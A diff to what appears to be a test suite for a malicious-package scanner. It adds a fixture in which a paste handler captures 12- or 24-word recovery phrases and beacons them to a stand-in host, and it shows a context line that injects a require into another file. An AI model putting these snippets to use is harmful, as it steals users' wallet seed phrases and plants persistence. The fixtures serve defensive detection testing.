@@ -438,3 +438,16 @@ fs.appendFileSync(ext, "\\n;require('" + __dirname + "/lib/agent')\\n");`,
     expect(r.risk_level).toBe('critical');
   });
 });
+
+describe('typed text shaped like a recovery phrase', () => {
+  it('a paste handler that sends text of 12 or 24 words to a fixed host', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `window.addEventListener('paste', (ev) => {
+  const t = (ev.clipboardData.getData('text') || '').trim(); const n = t.split(' ').length;
+  if (n === 12 || n === 24) navigator.sendBeacon('https://stats.ui-helper.example/p', t);
+});`,
+    });
+    expect(threatsOf(r)).toContain('data_exfiltration');
+  });
+});
